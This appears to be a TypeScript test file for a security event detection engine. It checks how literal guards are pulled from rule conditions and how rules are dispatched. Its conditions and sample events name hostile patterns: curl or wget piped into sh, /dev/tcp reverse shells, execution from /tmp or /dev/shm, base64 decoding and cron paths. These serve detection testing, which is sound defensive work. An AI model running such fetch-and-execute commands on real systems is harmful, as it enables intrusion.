import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { VigilEvent } from '@vigil/schema';
import { parseCondition } from '../src/condition/parser.ts';
import { evalContext, FieldSlots } from '../src/compile.ts';
import { Dispatch } from '../src/dispatch.ts';
import type { FieldSpec } from '../src/fields.ts';
import { literalGuard, sharedGuards, type Guard } from '../src/guards.ts';
import { resolveVigilField as resolve } from '../src/vigil/fields.ts';

const field = (name: string) => resolve({ name });
const NAMES = ['process.name', 'process.command_line', 'process.executable', 'process.args', 'file.path'];
const show = (g: Guard | undefined) => {
  if (!g) return undefined;
  const name = (s: FieldSpec) => NAMES.find((n) => field(n) === s) ?? '?';
  const part = (m: Guard['equals'], op: string) => [...m].map(([s, l]) => `${name(s)} ${op} ${[...l].sort().join('|')}`);
  return [...part(g.equals, '='), ...part(g.contains, '~')].sort();
};
const guard = (c: string, indexed: string[] = []) => show(literalGuard(parseCondition(c), resolve, new Set(indexed.map(field))));

test('guard: a comparison needs its literals; or unites its branches, and picks the most selective part', () => {
  assert.deepEqual(guard(`process.command_line regex '(curl|wget)\\b.*\\|\\s*sh'`), ['process.command_line ~ curl|wget']);
  assert.deepEqual(guard('process.command_line contains "/dev/tcp/" or process.executable pmatch (/tmp/, /dev/shm)'), ['process.command_line ~ /dev/tcp/', 'process.executable ~ /dev/shm|/tmp']);
  assert.deepEqual(guard('process.name in (python3, perl) and process.command_line contains base64'), ['process.name = perl|python3'], 'equality over a scan');
  assert.deepEqual(guard('process.name = sh and process.command_line contains base64'), ['process.command_line ~ base64'], 'a short value is likely common');
  assert.deepEqual(guard('process.name = python3 and process.command_line contains base64', ['process.name']), ['process.command_line ~ base64'], 'an indexed field is the last choice');
  assert.deepEqual(guard('process.args = "--decode"'), ['process.args = --decode'], 'multi-valued fields by element');
});

test('guard: none where the condition can hold without a literal', () => {
  assert.equal(guard('process.command_line contains base64 or process.pid = 1'), undefined, 'a branch without one');
  assert.equal(guard('not process.command_line contains base64'), undefined);
  assert.equal(guard('process.command_line exists'), undefined);
  assert.equal(guard('process.command_line contains sh'), undefined, 'too short to be worth a scan');
  assert.equal(guard(`process.command_line regex '^\\S+( +-[is])?$'`), undefined);
  assert.equal(guard('process.command_line icontains base64'), undefined, 'case-insensitive');
  assert.equal(guard('process.args contains base64'), undefined, 'list fields are not scanned');
});

test('shared guards: those the indexes imply and those on a field no other guard uses are dropped', () => {
  const g = (c: string) => literalGuard(parseCondition(c), resolve, new Set([field('process.name')]));
  const guards = [
    g('process.command_line contains base64'),
    g('process.command_line regex "(curl|wget).*sh"'),
    g('file.path startswith /etc/cron'),
    g('process.name = python3 and process.pid > 1'),
  ];
  assert.deepEqual(sharedGuards(guards, new Set([field('process.name')])).map(show), [show(guards[0]), show(guards[1]), undefined, undefined]);
});

test('dispatch: a guarded rule meets only events holding one of its literals; the others always do', () => {
  const entries = [
    `process.command_line regex '(curl|wget)\\b.*\\|\\s*sh'`,
    'process.command_line contains base64',
    'process.working_directory exists',
  ].map((c, i) => ({ id: i, condition: parseCondition(c), resolve }));
  const slots = new FieldSlots();
  const dispatch = new Dispatch(entries, slots);
  const ctx = evalContext(slots);
  const meets = (command_line: string) => {
    ctx.ev = { time: '2026-01-01T00:00:00Z', event: { kind: 'process.exec' }, host: { id: 'h' }, process: { pid: 1, command_line } } as VigilEvent;
    ctx.num++;
    return dispatch.candidates(ctx).map((e) => e.id);
  };
  assert.deepEqual(meets('ls -la /srv'), [2]);
  assert.deepEqual(meets('sh -c curl -fsSL https://x | sh'), [0, 2]);
  assert.deepEqual(meets('base64 -d payload | wget -i -'), [0, 1, 2], 'a literal found is enough to run the rule, not to match it');
  assert.deepEqual(meets('ls -la /srv'), [2], 'cached lists per combination found');
});
